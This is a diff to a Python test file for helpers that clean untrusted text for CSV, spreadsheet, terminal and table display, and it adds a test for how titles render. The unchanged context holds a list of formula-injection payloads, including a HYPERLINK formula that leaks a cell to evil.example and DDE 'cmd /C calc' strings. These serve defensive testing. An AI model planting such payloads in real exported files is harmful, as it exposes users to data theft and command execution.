@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from services.utils.untrusted import FORMULA_STARTS, csv_text, for_terminal, spreadsheet_cell
+from services.utils.untrusted import FORMULA_STARTS, csv_text, for_terminal, spreadsheet_cell, table_text
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]
@@ -45,3 +45,14 @@ def test_escape_sequences_never_reach_the_terminal():
 def test_nothing_that_drives_a_terminal_survives(text):
     shown = for_terminal(text)
     assert not any(c in shown for c in "\x1b\x9b\x07\x00\x08\r\u202e")
+
+
+@pytest.mark.parametrize(("title", "shown"), [
+    ("Adding `refs/convert/parquet`", "Adding refs/convert/parquet"),  # the Hub's parquet bot's own title
+    ("Use ``a `b` c`` here", "Use a `b` c here"),  # a longer fence keeps the backticks inside it
+    ("Hello <!-- hidden --> world", "Hello  world"),
+    ("An unclosed <!-- comment", "An unclosed"),
+    ("Plain title", "Plain title"),
+])
+def test_a_title_in_a_table_is_shown_as_the_hub_renders_it(title, shown):
+    assert table_text(title) == shown
